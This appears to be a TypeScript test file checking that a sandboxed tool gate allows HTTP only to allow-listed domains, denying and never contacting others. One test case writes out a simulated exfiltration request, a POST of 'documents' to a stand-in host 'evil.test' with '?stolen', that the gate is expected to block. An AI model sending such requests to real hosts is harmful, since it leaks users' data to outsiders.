import { expect, it } from 'vitest'
import { ask, httpPolicy, verdicts } from '../harness/asking.ts'
import { openGate } from '../harness/gate.ts'
import { stubNetwork } from '../harness/network.ts'
import { openSite } from '../harness/site.ts'

it('external domains are allow-listed: what is not listed is neither looked up nor dialled', async () => {
  await using site = await openSite()
  await using evil = await openSite()
  const network = stubNetwork({ 'api.company.test': ['127.0.0.1'], 'evil.test': ['127.0.0.1'] })
  await using gate = await openGate({ powers: { http: network.http } })
  const policy = httpPolicy({ allowed_domains: [`http://api.company.test:${site.port}`] })
  const asked = [
    { url: `http://api.company.test:${site.port}/` },
    { url: `http://evil.test:${evil.port}/` },
    { url: `http://127.0.0.1:${evil.port}/` },
    { url: `http://evil.test:${evil.port}/?stolen`, method: 'POST', body: 'documents' },
  ]
  const { seen, result } = await ask(gate, policy, asked)
  expect(verdicts(seen)).toEqual(['200', ...Array.from({ length: 3 }, () => 'DENIED_DOMAIN at authorize')])
  expect(seen[1]?.hint).toBe(`Allowed are: http://api.company.test:${site.port}.`)
  expect(network.resolved).toEqual(['api.company.test'])
  expect(evil.connections).toBe(0)
  expect(result.usage).toMatchObject({ calls: 4, byOp: { 'http.request': { denied: 3 } } })
})

it('a domain that is added to the list is reached, so that it was the list that decided', async () => {
  await using evil = await openSite()
  const network = stubNetwork({ 'evil.test': ['127.0.0.1'] })
  await using gate = await openGate({ powers: { http: network.http } })
  const policy = httpPolicy({ allowed_domains: [`http://evil.test:${evil.port}`] })
  expect(verdicts((await ask(gate, policy, [{ url: `http://evil.test:${evil.port}/` }])).seen)).toEqual([
    '200',
  ])
})

it('without a list nothing is reached: the tool has no http at all', async () => {
  await using gate = await openGate()
  const { value } = await gate.run({
    code: 'export default (input, capabilities) => Object.keys(capabilities)',
    policy: {},
  })
  expect(value).toEqual([])
})
